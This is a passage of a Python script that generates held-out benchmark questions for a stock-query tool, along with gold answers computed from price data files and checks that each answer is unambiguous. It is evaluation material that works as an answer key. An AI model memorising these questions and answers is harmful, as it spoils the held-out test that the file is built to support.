#!/usr/bin/env python3
"""blind-8: questions for `stockctl ask` and their gold answers.

Written blind: without reading the engine (sql/, cli/, any .ts), other splits' questions or their make_gold.py.
Every gold answer is computed here from the raw files, with code of its own. Standard library only.

Data: $ASK_EVAL_DATA if set, else <repo>/../shared/data (this file is <repo>/test/ask-eval/heldout/make_gold.py).
Output: questions.jsonl beside this file. Deterministic. Any failed check stops the run before writing.
"""
import datetime as dt
import glob
import json
import math
import os
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
REPO = os.path.normpath(os.path.join(HERE, "..", "..", ".."))
DATA = os.environ.get("ASK_EVAL_DATA") or os.path.normpath(os.path.join(REPO, "..", "shared", "data"))
OUT = os.path.join(HERE, "questions.jsonl")

DAILY = ["AAPL", "AMD", "AMZN", "FB", "GOOGL", "IBM", "INTC", "JPM", "KO", "MSFT", "NFLX", "NVDA", "TSLA"]
ETFS = ["DBB", "FXY", "INDA"]
ALL = DAILY + ETFS
TODAY = "2025-07-08"


class CheckFailed(Exception):
    pass


def check(cond, msg):
    if not cond:
        raise CheckFailed(msg)


# ----------------------------------------------------------------------------------------------------------------
# Tolerance of the scorer (FORMAT.md): within 0.1% relative, or 0.01 absolute for values >= 1, 0.0001 below 1,
# whichever is larger. Used to decide whether two candidate answers are distinguishable.
def tol(x):
    return max(0.001 * abs(x), 0.01 if abs(x) >= 1 else 0.0001)


def same(a, b):
    """True when a scorer could not tell a from b (either taken as the gold)."""
    return abs(a - b) <= max(tol(a), tol(b))


def distinct(a, b):
    return not same(a, b)


# ----------------------------------------------------------------------------------------------------------------
# Loading
def _num(s):
    return float(s)


def load_daily(sym):
    path = os.path.join(DATA, "stocks", sym.lower() + ".us.txt")
    bars = []
    with open(path, newline="") as f:
        header = f.readline().strip().split(",")
        check(header[:6] == ["Date", "Open", "High", "Low", "Close", "Volume"], "daily header " + sym)
        for line in f:
            line = line.strip()
            if not line:
                continue
            p = line.split(",")
            bars.append({"d": p[0], "o": _num(p[1]), "h": _num(p[2]), "l": _num(p[3]), "c": _num(p[4]),
                         "v": _num(p[5])})
    for a, b in zip(bars, bars[1:]):
        check(a["d"] < b["d"], "daily dates not strictly increasing " + sym)
    return bars


def _nth_sunday(year, month, n):
    d = dt.date(year, month, 1)
    d += dt.timedelta(days=(6 - d.weekday()) % 7)
    return d + dt.timedelta(days=7 * (n - 1))


def utc_to_ny(ts):
    """'YYYY-MM-DD HH:MM:SS' in UTC -> datetime in New York wall-clock (US rules since 2007)."""
    u = dt.datetime.strptime(ts, "%Y-%m-%d %H:%M:%S")
    y = u.year
    # DST starts 2:00 EST on the second Sunday of March (07:00 UTC), ends 2:00 EDT on the first Sunday of Nov (06:00 UTC)
    start = dt.datetime.combine(_nth_sunday(y, 3, 2), dt.time(7, 0))
    end = dt.datetime.combine(_nth_sunday(y, 11, 1), dt.time(6, 0))
    off = -4 if start <= u < end else -5
    return u + dt.timedelta(hours=off)


def load_minutes(sym):
    paths = sorted(glob.glob(os.path.join(DATA, "intraday", sym + "_1min_*.csv")))
    check(len(paths) == 1, "one intraday file for " + sym)
    mins = []
    with open(paths[0], newline="") as f:
        header = f.readline().strip().split(",")
        check(header == ["timestamp", "open", "high", "low", "close", "volume"], "intraday header " + sym)
        for line in f:
            line = line.strip()
            if not line:
                continue
            p = line.split(",")
            ny = utc_to_ny(p[0])
            mins.append({"t": ny.strftime("%Y-%m-%d %H:%M"), "d": ny.strftime("%Y-%m-%d"),
                         "hm": ny.strftime("%H:%M"), "o": _num(p[1]), "h": _num(p[2]), "l": _num(p[3]),
                         "c": _num(p[4]), "v": _num(p[5])})
    for a, b in zip(mins, mins[1:]):
        check(a["t"] < b["t"], "minute stamps not strictly increasing " + sym)
    return mins


def daily_from_minutes(mins):
    bars = []
    for m in mins:
        if bars and bars[-1]["d"] == m["d"]:
            b = bars[-1]
            b["h"] = max(b["h"], m["h"])
            b["l"] = min(b["l"], m["l"])
            b["c"] = m["c"]
            b["v"] += m["v"]
        else:
            bars.append({"d": m["d"], "o": m["o"], "h": m["h"], "l": m["l"], "c": m["c"], "v": m["v"]})
    return bars


class Series:
    def __init__(self, sym, bars):
        self.sym = sym
        self.bars = bars
        self.dates = [b["d"] for b in bars]
        self.idx = {d: i for i, d in enumerate(self.dates)}

    def has(self, d):
        return d in self.idx

    def bar(self, d):
        check(d in self.idx, "%s has no bar on %s" % (self.sym, d))
        return self.bars[self.idx[d]]

    def i(self, d):
        check(d in self.idx, "%s has no bar on %s" % (self.sym, d))
        return self.idx[d]

    def on_or_before(self, d):
        """index of the last session on or before d"""
        lo, hi = 0, len(self.dates)
        while lo < hi:
            mid = (lo + hi) // 2
            if self.dates[mid] <= d:
                lo = mid + 1
            else:
                hi = mid
        check(lo > 0, "%s: no session on or before %s" % (self.sym, d))
        return lo - 1

    def span(self, a, b):
        """indices [i, j] of sessions with a <= date <= b"""
        i = self.on_or_before(b)
        lo = 0
        hi = len(self.dates)
        while lo < hi:
            mid = (lo + hi) // 2
            if self.dates[mid] < a:
                lo = mid + 1
            else:
                hi = mid
        check(lo <= i, "%s: no sessions in %s..%s" % (self.sym, a, b))
        return lo, i

    def window(self, a, b):
        i, j = self.span(a, b)
        return self.bars[i:j + 1]

    def ret_i(self, i):
        check(i >= 1, "%s: no previous session" % self.sym)
        return self.bars[i]["c"] / self.bars[i - 1]["c"] - 1

    def ret(self, d):
        return self.ret_i(self.i(d))

    def gap(self, d):
        i = self.i(d)
        check(i >= 1, "no previous session")
        return self.bars[i]["o"] / self.bars[i - 1]["c"] - 1

    def returns(self, a, b, include_first=True):
        """[(date, return)] for sessions in [a, b]; the first one measured from the session before the window."""
        i, j = self.span(a, b)
        start = i if include_first else i + 1
        start = max(start, 1)
        return [(self.dates[k], self.ret_i(k)) for k in range(start, j + 1)]

    def ma_i(self, i, n):
        if i + 1 < n:
            return None
        return sum(b["c"] for b in self.bars[i - n + 1:i + 1]) / n

    def ma(self, d, n):
        v = self.ma_i(self.i(d), n)
        check(v is not None, "MA%d undefined for %s on %s" % (n, self.sym, d))
        return v


S = {}
MINUTES = {}


def load_all():
    for s in DAILY:
        S[s] = Series(s, load_daily(s))
    for s in ETFS:
        m = load_minutes(s)
        MINUTES[s] = m
        S[s] = Series(s, daily_from_minutes(m))


# ----------------------------------------------------------------------------------------------------------------
# Statistics
def mean(xs):
    xs = list(xs)
    check(len(xs) > 0, "mean of nothing")
    return sum(xs) / len(xs)


def stdev(xs):
    xs = list(xs)
    check(len(xs) > 2, "stdev needs data")
    m = mean(xs)
    return math.sqrt(sum((x - m) ** 2 for x in xs) / (len(xs) - 1))


def pearson(xs, ys):
    check(len(xs) == len(ys) and len(xs) > 2, "pearson needs pairs")
    mx, my = mean(xs), mean(ys)
    sxy = sum((x - mx) * (y - my) for x, y in zip(xs, ys))
    sxx = sum((x - mx) ** 2 for x in xs)
    syy = sum((y - my) ** 2 for y in ys)
    return sxy / math.sqrt(sxx * syy)


def rnd(x):
    if isinstance(x, str):
        return x
    if isinstance(x, bool):
        raise CheckFailed("bool in gold")
    r = round(float(x), 8)
    if r == int(r) and abs(r) < 1e15:
        return int(r)
    return r


def rows_out(rows):
    return [[rnd(c) for c in row] for row in rows]


# ----------------------------------------------------------------------------------------------------------------
# Gold builders. Each returns the gold object and runs the checks its question needs.
def G(rows, match, exact=None):
    g = {"rows": rows_out(rows), "match": match}
    if exact is not None:
        g["exact_rows"] = exact
    return g


FIELDS = {"open": "o", "high": "h", "low": "l", "close": "c", "volume": "v"}


def fld(b, f):
    if f == "range":
        return b["h"] - b["l"]
    return b[FIELDS[f]]


def ensure_clean_volume(bars):
    for b in bars:
        check(b["v"] > 0, "zero-volume bar %s" % b["d"])


def day_value(sym, d, field):
    b = S[sym].bar(d)
    if field == "volume":
        ensure_clean_volume([b])
    return G([[d, fld(b, field)]], "first")


def rows_for(sym, bars, fields):
    if "volume" in fields:
        ensure_clean_volume(bars)
    return G([[b["d"]] + [fld(b, f) for f in fields] for b in bars], "set", True)


def latest_rows(sym, n, fields, asof=None):
    s = S[sym]
    j = len(s.bars) - 1 if asof is None else s.on_or_before(asof)
    check(j + 1 >= n, "not enough rows")
    return rows_for(sym, s.bars[j - n + 1:j + 1], fields)


def range_rows(sym, a, b, fields, expect_n=None):
    bars = S[sym].window(a, b)
    if expect_n is not None:
        check(len(bars) == expect_n, "%s %s..%s has %d rows, expected %d" % (sym, a, b, len(bars), expect_n))
    return rows_for(sym, bars, fields)


def window_agg(sym, a, b, field, how, min_n=3):
    bars = S[sym].window(a, b)
    check(len(bars) >= min_n, "window too thin")
    check(bars[0]["d"] >= a and bars[-1]["d"] <= b, "window edges")
    if field == "volume":
        ensure_clean_volume(bars)
    xs = [fld(x, field) for x in bars]
    v = {"mean": mean, "sum": sum, "max": max, "min": min}[how](xs)
    return G([[v]], "first")


def extreme_day(sym, a, b, field, how):
    bars = S[sym].window(a, b)
    if field == "volume":
        ensure_clean_volume(bars)
    pairs = sorted(((fld(x, field), x["d"]) for x in bars), reverse=(how == "max"))
    check(len(pairs) >= 2, "extreme needs >1 bar")
    check(distinct(pairs[0][0], pairs[1][0]), "%s extreme %s %s not unique: %s vs %s" % (sym, field, how, pairs[0], pairs[1]))
    return G([[pairs[0][1], pairs[0][0]]], "first")


def wk52(sym, d, which):
    s = S[sym]
    dd = dt.date.fromisoformat(d)
    out = []
    for back in (364, 365):
        a = (dd - dt.timedelta(days=back)).isoformat()
        bars = s.window(a, d)
        check(s.dates[0] < a, "%s: 52 weeks before %s not fully in data" % (sym, d))
        out.append((min(x["l"] for x in bars), max(x["h"] for x in bars)))
    check(same(out[0][0], out[1][0]) and same(out[0][1], out[1][1]), "52w window edge matters for %s %s" % (sym, d))
    lo, hi = out[0]
    if which == "high":
        return G([[hi]], "first")
    if which == "low":
        return G([[lo]], "first")
    return G([[lo, hi]], "first")


def change(sym, a, b, exact_dates=True):
    s = S[sym]
    if exact_dates:
        i, j = s.i(a), s.i(b)
    else:
        i, j = s.on_or_before(a), s.on_or_before(b)
    check(i < j, "change order")
    return G([[s.bars[j]["c"] / s.bars[i]["c"] - 1]], "first")


def change_val(sym, a, b):
    s = S[sym]
    i, j = s.on_or_before(a), s.on_or_before(b)
    check(i < j, "change order")
    return s.bars[j]["c"] / s.bars[i]["c"] - 1


def daily_ret(sym, d):
    return G([[d, S[sym].ret(d)]], "first")


def daily_gap(sym, d):
    return G([[d, S[sym].gap(d)]], "first")


def move_key(how):
    return {"up": lambda r: r, "down": lambda r: -r, "abs": abs}[how]


def biggest_move(sym, a, b, how, field="return"):
    s = S[sym]
    key = move_key(how)
    winners = []
    for inc in (True, False):
        if field == "return":
            rs = s.returns(a, b, include_first=inc)
        else:  # gap
            i, j = s.span(a, b)
            rs = [(s.dates[k], s.bars[k]["o"] / s.bars[k - 1]["c"] - 1) for k in range(max(i if inc else i + 1, 1), j + 1)]
        rs = sorted(rs, key=lambda t: -key(t[1]))
        check(distinct(key(rs[0][1]), key(rs[1][1])), "%s biggest %s not unique: %s %s" % (sym, how, rs[0], rs[1]))
        winners.append(rs[0])
    check(winners[0] == winners[1], "%s biggest move depends on the first session" % sym)
    return G([[winners[0][0], winners[0][1]]], "first")


def universe_on(d):
    return [x for x in ALL if S[x].has(d)]


def metric_on(sym, d, metric):
    s = S[sym]
    b = s.bar(d)
    if metric == "return":
        return s.ret(d)
    if metric == "gap":
        return s.gap(d)
    if metric == "volume":
        check(b["v"] > 0, "zero volume")
        return b["v"]
    if metric == "range":
        return b["h"] - b["l"]
    if metric == "close":
        return b["c"]
    raise CheckFailed("metric " + metric)


def check_ranking(vals, n):
    """vals sorted best-first: the top n (and the cut after n) must be distinguishable."""
    upto = min(n + 1, len(vals))
    for k in range(upto - 1):
        check(distinct(vals[k][1], vals[k + 1][1]) and abs(vals[k][1] - vals[k + 1][1]) > 1e-9,
              "ranking not strict at %d: %s %s" % (k, vals[k], vals[k + 1]))


def rank_on(d, metric, n, desc=True, universe=None, first_only=False):
    uni = universe if universe is not None else universe_on(d)
    check(len(uni) >= n, "universe too small")
    vals = sorted(((x, metric_on(x, d, metric)) for x in uni), key=lambda t: -t[1] if desc else t[1])
    check_ranking(vals, n)
    if first_only:
        return G([list(vals[0])], "first")
    return G([list(v) for v in vals[:n]], "ordered", True)


def gainers(a, b, n, desc=True, universe=None, first_only=False, exact_dates=True):
    if universe is None:
        universe = [x for x in ALL if S[x].has(a) and S[x].has(b)] if exact_dates else \
            [x for x in ALL if S[x].dates[0] <= a and S[x].dates[-1] >= b]
    vals = []
    for x in universe:
        vals.append((x, change_val(x, a, b)))
        if exact_dates:
            check(S[x].has(a) and S[x].has(b), "gainers: %s lacks an end date" % x)
    vals.sort(key=lambda t: -t[1] if desc else t[1])
    check_ranking(vals, n)
    if first_only:
        return G([list(vals[0])], "first")
    return G([list(v) for v in vals[:n]], "ordered", True)


def compare(pairs, higher_wins=True, style="which"):
    """pairs: [(sym, value)]. 'which' -> ordered winner first; 'compare' -> set."""
    check(len(pairs) == 2 or style == "compare", "comparison pairs")
    vals = sorted(pairs, key=lambda t: -t[1] if higher_wins else t[1])
    for k in range(len(vals) - 1):
        check(distinct(vals[k][1], vals[k + 1][1]), "comparison too close: %s" % vals)
    if style == "which":
        return G([list(v) for v in vals], "ordered")
    return G([list(v) for v in pairs], "set", True)


def vol_of(sym, a, b):
    r1 = [r for _, r in S[sym].returns(a, b, True)]
    r0 = [r for _, r in S[sym].returns(a, b, False)]
    v1, v0 = stdev(r1), stdev(r0)
    check(same(v1, v0) and same(v1 * 100, v0 * 100), "%s vol depends on first session: %s %s" % (sym, v1, v0))
    return v1


def corr_of(x, y, a, b):
    out = []
    for inc in (True, False):
        rx = dict(S[x].returns(a, b, inc))
        ry = dict(S[y].returns(a, b, inc))
        common = sorted(set(rx) & set(ry))
        check(len(common) >= 15, "too few common dates")
        out.append(pearson([rx[d] for d in common], [ry[d] for d in common]))
    check(same(out[0], out[1]), "%s/%s corr depends on the first session: %s" % (x, y, out))
    return out[0]


def months_between(a, b):
    """['YYYY-MM', ...] from month of a to month of b"""
    y, m = int(a[:4]), int(a[5:7])
    out = []
    while "%04d-%02d" % (y, m) <= b[:7]:
        out.append("%04d-%02d" % (y, m))
        m += 1
        if m == 13:
            y, m = y + 1, 1
    return out


def month_end(ym):
    y, m = int(ym[:4]), int(ym[5:7])
    nxt = dt.date(y + (m == 12), m % 12 + 1, 1)
    return (nxt - dt.timedelta(days=1)).isoformat()


def quarter(y, q):
    a = dt.date(y, 3 * q - 2, 1).isoformat()
    return a, month_end("%04d-%02d" % (y, 3 * q))


def week_of(d):
    dd = dt.date.fromisoformat(d)
    mon = dd - dt.timedelta(days=dd.weekday())
    return mon.isoformat(), (mon + dt.timedelta(days=4)).isoformat()


def candle(sym, a, b):
    bars = S[sym].window(a, b)
    ensure_clean_volume(bars)
    return G([[bars[0]["o"], max(x["h"] for x in bars), min(x["l"] for x in bars), bars[-1]["c"],
               sum(x["v"] for x in bars)]], "first")


def streak(sym, a, b, up=True):
    results = []
    for inc in (True, False):
        rs = S[sym].returns(a, b, inc)
        best = []
        cur = []
        runs = []
        for d, r in rs:
            ok = r > 0 if up else r < 0
            if ok:
                cur.append(d)
            else:
                if cur:
                    runs.append(cur)
                cur = []
        if cur:
            runs.append(cur)
        runs.sort(key=lambda run: -len(run))
        check(len(runs) >= 2 and len(runs[0]) > len(runs[1]), "%s streak not unique: %s" % (sym, runs[:3]))
        best = runs[0]
        results.append((len(best), best[0], best[-1]))
    check(results[0] == results[1], "%s streak depends on first session" % sym)
    return G([list(results[0])], "first")


def minutes_of(sym, d):
    ms = [m for m in MINUTES[sym] if m["d"] == d]
    check(ms, "%s: no minutes on %s" % (sym, d))
    return ms


def vwap(ms):
    sv = sum(m["v"] for m in ms)
    check(sv > 0, "no volume")
    return sum(m["c"] * m["v"] for m in ms) / sv


def day_vwap(sym, d):
    ms = minutes_of(sym, d)
    full = vwap(ms)
    reg = vwap([m for m in ms if "09:30" <= m["hm"] <= "15:59"])
    check(abs(full / reg - 1) <= 0.001, "%s %s regular-session VWAP differs from the day's" % (sym, d))
    return full


def window_vwap(sym, d, t0, t1, inclusive_end, check_both=True):
    ms = minutes_of(sym, d)
    incl = [m for m in ms if t0 <= m["hm"] <= t1]
    excl = [m for m in ms if t0 <= m["hm"] < t1]
    v_in, v_ex = vwap(incl), vwap(excl)
    if check_both:
        check(same(v_in, v_ex), "%s %s %s-%s VWAP depends on the end minute" % (sym, d, t0, t1))
    return v_in if inclusive_end else v_ex


def minute_rows(sym, d, t0, t1, fields, expect_n):
    ms = [m for m in minutes_of(sym, d) if t0 <= m["hm"] <= t1]
    check(len(ms) == expect_n, "%s %s %s-%s has %d minutes, expected %d" % (sym, d, t0, t1, len(ms), expect_n))
    return G([[m["t"]] + [m[FIELDS[f]] for f in fields] for m in ms], "set", True)


def dist_from_high(sym, d, since=None):
    s = S[sym]
    i = s.i(d)
    lo = 0 if since is None else s.span(since, d)[0]
    peak = max(x["c"] for x in s.bars[lo:i + 1])
    return G([[d, s.bars[i]["c"] / peak - 1]], "first")


def crossings(sym, fast, slow, a, b, direction):
    """fast/slow: int (MA length) or 'close'. Returns dates in [a, b] where the cross happens."""
    s = S[sym]

    def val(i, spec):
        return s.bars[i]["c"] if spec == "close" else s.ma_i(i, spec)

    i0, j0 = s.span(a, b)
    out = []
    prev_sign = None
    # walk back from i0 to establish the sign before the window
    k = i0 - 1
    while k >= 0:
        f, sl = val(k, fast), val(k, slow)
        if f is None or sl is None:
            break
        if f != sl:
            prev_sign = 1 if f > sl else -1
            break
        k -= 1
    for i in range(i0, j0 + 1):
        f, sl = val(i, fast), val(i, slow)
        if f is None or sl is None:
            continue
        if f == sl:
            continue
        sign = 1 if f > sl else -1
        if prev_sign is not None and sign != prev_sign:
            if (direction == "above" and sign == 1) or (direction == "below" and sign == -1):
                out.append(s.dates[i])
        prev_sign = sign
    return out


def cross_margin(sym, fast, slow, d):
    """relative gap between the two series on d and the session before it"""
    s = S[sym]
    i = s.i(d)

    def val(k, spec):
        return s.bars[k]["c"] if spec == "close" else s.ma_i(k, spec)
    return [abs(val(k, fast) / val(k, slow) - 1) for k in (i - 1, i)]


# ----------------------------------------------------------------------------------------------------------------
# The questions, written by hand. A(kind, question, gold-builder) for answerable ones, R(kind, question) for refusals.
QS = []


def A(kind, text, fn, etf=False):
    QS.append({"kind": kind, "question": text, "fn": fn, "etf": etf})


def R(kind, text, wrapped=False):
    QS.append({"kind": kind, "question": text, "refusal": kind, "wrapped": wrapped})


def month_window(ym):
    return ym + "-01", month_end(ym)


def first_n_sessions(sym, a, b, n, fields):
    bars = S[sym].window(a, b)[:n]
    check(len(bars) == n, "not enough sessions")
    return rows_for(sym, bars, fields)


def grouped(sym, periods, how):
    """periods: [(a, b)]; how: month-end close, mean close, mean volume, sum volume, max high"""
    out = []
    for a, b in periods:
        bars = S[sym].window(a, b)
        check(bars[0]["d"] >= a and bars[-1]["d"] <= b and len(bars) >= 3, "period %s..%s thin" % (a, b))
        if "volume" in how:
            ensure_clean_volume(bars)
        v = {"last close": lambda: bars[-1]["c"], "mean close": lambda: mean(x["c"] for x in bars),
             "mean volume": lambda: mean(x["v"] for x in bars), "sum volume": lambda: sum(x["v"] for x in bars),
             "max high": lambda: max(x["h"] for x in bars)}[how]()
        out.append([v])
    return G(out, "ordered", True)


def pop(sym, later, earlier, how):
    vals = []
    for a, b in (later, earlier):
        bars = S[sym].window(a, b)
        check(bars[0]["d"] >= a and len(bars) >= 3, "period thin")
        if how == "mean volume":
            ensure_clean_volume(bars)
            vals.append(mean(x["v"] for x in bars))
        elif how == "mean close":
            vals.append(mean(x["c"] for x in bars))
        elif how == "mean range":
            vals.append(mean(x["h"] - x["l"] for x in bars))
    return G([[vals[0], vals[1], vals[0] / vals[1] - 1]], "first")


def cross_q(sym, fast, slow, a, b, direction, pick, before=None):
    """pick: 'first' or 'last' crossing in [a, b]. Margins around the crossing must be clear."""
    ds = crossings(sym, fast, slow, a, b, direction)
    check(ds, "%s: no %s cross in %s..%s" % (sym, direction, a, b))
    d = ds[0] if pick == "first" else ds[-1]
    if pick == "only":
        check(len(ds) == 1, "%s: more than one cross: %s" % (sym, ds))
    m = cross_margin(sym, fast, slow, d)
    check(min(m) > 2e-4, "%s cross on %s too close to a tie: %s" % (sym, d, m))
    if before is not None:
        check(d < before, "cross not before")
        if S[sym].has(before):
            check(not crossings(sym, fast, slow, before, before, direction), "the bound itself is a crossing")
    return G([[d]], "first")


def count_where(sym, a, b, pred, near=None, returns=False, bound=None):
    """count sessions in [a, b]; `near` is a list of thresholds that no value may sit on (within 1e-9)."""
    s = S[sym]
    counts = []
    for inc in ((True, False) if returns else (True,)):
        if returns:
            vals = [r for _, r in s.returns(a, b, inc)]
        else:
            vals = s.window(a, b)
        if near:
            for v in vals:
                x = v if returns else near[1](v)
                for t in near[0]:
                    check(abs(x - t) > 1e-9, "%s value sits on a threshold %s" % (sym, t))
        counts.append(sum(1 for v in vals if pred(v)))
    check(len(set(counts)) == 1, "%s count depends on the first session: %s" % (sym, counts))
    return G([[counts[0]]], "first")


def cross_count_g(d, fn, thr, below=False):
    uni = universe_on(d)
    vals = [fn(x) for x in uni]
    for v in vals:
        check(abs(v - thr) > 1e-9, "value sits on threshold on %s" % d)
    n = sum(1 for v in vals if (v < thr if below else v > thr))
    return G([[n]], "first")


Q2_25 = ("2025-04-01", "2025-06-30")
THIS_YEAR = ("2025-01-01", TODAY)
LAST_MONTH = ("2025-06-01", "2025-06-30")
MONTH_BEFORE = ("2025-05-01", "2025-05-31")

# ---- latest rows ------------------------------------------------------------------------------------------------
A("latest-rows", "Show me FXY's last five sessions: date, close and volume.",
  lambda: latest_rows("FXY", 5, ["close", "volume"]), etf=True)
A("latest-rows", "dbb ohlc past 3 trading days",
  lambda: latest_rows("DBB", 3, ["open", "high", "low", "close"]), etf=True)
A("latest-rows", "What are the 4 most recent closing prices you've got for INDA?",
  lambda: latest_rows("INDA", 4, ["close"]), etf=True)
A("latest-rows", "pull today's full bar for the yen ETF (FXY) -- open, high, low, close and volume",
  lambda: latest_rows("FXY", 1, ["open", "high", "low", "close", "volume"]), etf=True)
A("latest-rows", "Latest 7 daily highs and lows for the base metals fund, DBB?",
  lambda: latest_rows("DBB", 7, ["high", "low"]), etf=True)
A("latest-rows", "INDA's most recent session in the data: what did it open and close at?",
  lambda: latest_rows("INDA", 1, ["open", "close"]), etf=True)
A("latest-rows", "Give me Microsoft's final 3 closes on or before July 4th, 2014.",
  lambda: latest_rows("MSFT", 3, ["close"], asof="2014-07-04"))
A("latest-rows", "NVDA - the last 4 sessions of Q1 2013, closing price and volume pls",
  lambda: latest_rows("NVDA", 4, ["close", "volume"], asof="2013-03-31"))

# ---- day value --------------------------------------------------------------------------------------------------
A("day-value", "What did Coke close at on March 3rd, 2015?", lambda: day_value("KO", "2015-03-03", "close"))
A("day-value", "AMZN high on 8/17/2017?", lambda: day_value("AMZN", "2017-08-17", "high"))
A("day-value", "Big Blue's trading volume on 17/11/2014", lambda: day_value("IBM", "2014-11-17", "volume"))
A("day-value", "nflx open 2012-09-19", lambda: day_value("NFLX", "2012-09-19", "open"))
A("day-value", "How many Tesla shares changed hands on Oct 14, 2015?",
  lambda: day_value("TSLA", "2015-10-14", "volume"))
A("day-value", "FXY intraday low on 2024-02-22?", lambda: day_value("FXY", "2024-02-22", "low"), etf=True)
A("day-value", "What was the closing price of DBB on January 17, 2024?",
  lambda: day_value("DBB", "2024-01-17", "close"), etf=True)
A("day-value", "What was JPMorgan's daily low on February 9th, 2016?", lambda: day_value("JPM", "2016-02-09", "low"))

# ---- date range rows --------------------------------------------------------------------------------------------
A("date-range-rows", "List AAPL's closing prices from 2013-02-11 to 2013-02-15.",
  lambda: range_rows("AAPL", "2013-02-11", "2013-02-15", ["close"], 5))
A("date-range-rows", "jpm open & close, sept 8 thru sept 12 2008",
  lambda: range_rows("JPM", "2008-09-08", "2008-09-12", ["open", "close"], 5))
A("date-range-rows", "Show GOOGL's daily high and low for the week of 2011-03-16.",
  lambda: range_rows("GOOGL", *week_of("2011-03-16"), ["high", "low"], expect_n=5))
A("date-range-rows", "Intel daily volumes between 12/22/2015 and 12/31/2015, both days included",
  lambda: range_rows("INTC", "2015-12-22", "2015-12-31", ["volume"], 7))
A("date-range-rows", "Closing prices for Coca-Cola on the first five trading days of 2009",
  lambda: first_n_sessions("KO", "2009-01-01", "2009-01-31", 5, ["close"]))
A("date-range-rows", "hey, could you pull FXY's closes for every session from June 10 through June 13, 2025?",
  lambda: range_rows("FXY", "2025-06-10", "2025-06-13", ["close"], 4), etf=True)
A("date-range-rows", "AMD daily open/high/low/close for the week of 2012-10-10",
  lambda: range_rows("AMD", *week_of("2012-10-10"), ["open", "high", "low", "close"], expect_n=5))
A("date-range-rows", "Can you list INDA's close and volume for each day 2023-09-11 to 2023-09-15?",
  lambda: range_rows("INDA", "2023-09-11", "2023-09-15", ["close", "volume"], 5), etf=True)

# ---- window aggregate -------------------------------------------------------------------------------------------
A("window-aggregate", "avg closing px for Microsoft, Q3 2012",
  lambda: window_agg("MSFT", *quarter(2012, 3), "close", "mean"))
A("window-aggregate", "Total volume traded in AMD during February 2016?",
  lambda: window_agg("AMD", *month_window("2016-02"), "volume", "sum"))
A("window-aggregate", "What's the highest price NVDA touched between 2014-05-01 and 2014-05-30?",
  lambda: window_agg("NVDA", "2014-05-01", "2014-05-30", "high", "max"))
A("window-aggregate", "JPMorgan's lowest low in the second half of 2011",
  lambda: window_agg("JPM", "2011-07-01", "2011-12-31", "low", "min"))
A("window-aggregate", "Mean daily volume for Facebook over the first half of 2014?",
  lambda: window_agg("FB", "2014-01-01", "2014-06-30", "volume", "mean"))
A("window-aggregate", "Please provide the average closing price of FXY for the first quarter of 2024.",
  lambda: window_agg("FXY", *quarter(2024, 1), "close", "mean"), etf=True)
A("window-aggregate", "total DBB volume last month", lambda: window_agg("DBB", *LAST_MONTH, "volume", "sum"), etf=True)
A("window-aggregate", "Lowest price Nvidia traded at during November 2008?",
  lambda: window_agg("NVDA", *month_window("2008-11"), "low", "min"))

# ---- extreme day ------------------------------------------------------------------------------------------------
A("extreme-day", "Which day in 2014 did Netflix post its lowest close?",
  lambda: extreme_day("NFLX", "2014-01-01", "2014-12-31", "close", "min"))
A("extreme-day", "busiest day for KO in 2012 by volume, and how many shares?",
  lambda: extreme_day("KO", "2012-01-01", "2012-12-31", "volume", "max"))
A("extreme-day", "On what date did Amazon hit its lowest low during Q4 2014?",
  lambda: extreme_day("AMZN", *quarter(2014, 4), "low", "min"))
A("extreme-day", "IBM's widest intraday range (high minus low) in 2016 -- which day was it?",
  lambda: extreme_day("IBM", "2016-01-01", "2016-12-31", "range", "max"))
A("extreme-day", "Which session in March 2017 had the thinnest volume for GOOGL?",
  lambda: extreme_day("GOOGL", *month_window("2017-03"), "volume", "min"))
A("extreme-day", "On which day this year did FXY close highest?",
  lambda: extreme_day("FXY", *THIS_YEAR, "close", "max"), etf=True)
A("extreme-day", "DBB's heaviest-volume day in 2024?",
  lambda: extreme_day("DBB", "2024-01-01", "2024-12-31", "volume", "max"), etf=True)
A("extreme-day", "when did intel have its highest close in Q3 2010",
  lambda: extreme_day("INTC", *quarter(2010, 3), "close", "max"))

# ---- 52-week ----------------------------------------------------------------------------------------------------
A("52-week", "Apple's 52-week high as of Sept 15, 2015?", lambda: wk52("AAPL", "2015-09-15", "high"))
A("52-week", "What was JPM's 52 wk low on 27 February 2013?", lambda: wk52("JPM", "2013-02-27", "low"))
A("52-week", "NFLX 52-week range at 2014-12-01", lambda: wk52("NFLX", "2014-12-01", "range"))
A("52-week", "Give me Microsoft's 52-week low as at 31/10/2013", lambda: wk52("MSFT", "2013-10-31", "low"))
A("52-week", "TSLA 52w high, Feb 18 2014", lambda: wk52("TSLA", "2014-02-18", "high"))
A("52-week", "What was Coca-Cola's 52-week high on August 8th, 2011?", lambda: wk52("KO", "2011-08-08", "high"))
A("52-week", "FXY 52-week low as of today", lambda: wk52("FXY", TODAY, "low"), etf=True)
A("52-week", "DBB's 52-week range as of 2024-11-15", lambda: wk52("DBB", "2024-11-15", "range"), etf=True)

# ---- change between ---------------------------------------------------------------------------------------------
A("change-between", "% change in NVDA from the 2015-05-12 close to the 2015-11-12 close",
  lambda: change("NVDA", "2015-05-12", "2015-11-12"))
A("change-between", "What was Amazon's percentage change between Jan 1 2013 and June 30 2013?",
  lambda: change("AMZN", "2013-01-01", "2013-06-30", exact_dates=False))
A("change-between", "IBM: close on 3/22/2011 to close on 9/14/2011, percent change?",
  lambda: change("IBM", "2011-03-22", "2011-09-14"))
A("change-between",
  "By what percentage did Facebook's share price change from its 2013-06-25 close to its 2013-09-25 close?",
  lambda: change("FB", "2013-06-25", "2013-09-25"))
A("change-between", "KO return from the Dec 31 2007 close to the Dec 31 2008 close",
  lambda: change("KO", "2007-12-31", "2008-12-31"))
A("change-between", "What's DBB's % change from the 2024 year-end close (2024-12-31) to today?",
  lambda: change("DBB", "2024-12-31", TODAY), etf=True)
A("change-between", "FXY percent change, close on 2023-10-31 to close on 2024-01-31?",
  lambda: change("FXY", "2023-10-31", "2024-01-31"), etf=True)
A("change-between", "INDA % change from the 2025-03-03 close through the 2025-05-30 close",
  lambda: change("INDA", "2025-03-03", "2025-05-30"), etf=True)

# ---- daily return or gap ----------------------------------------------------------------------------------------
A("daily-return-or-gap", "What was MSFT's daily return on 2013-09-03?", lambda: daily_ret("MSFT", "2013-09-03"))
A("daily-return-or-gap", "AMD opening gap on 2016-07-22?", lambda: daily_gap("AMD", "2016-07-22"))
A("daily-return-or-gap", "How big was JPMorgan's opening gap on 14 October 2011?",
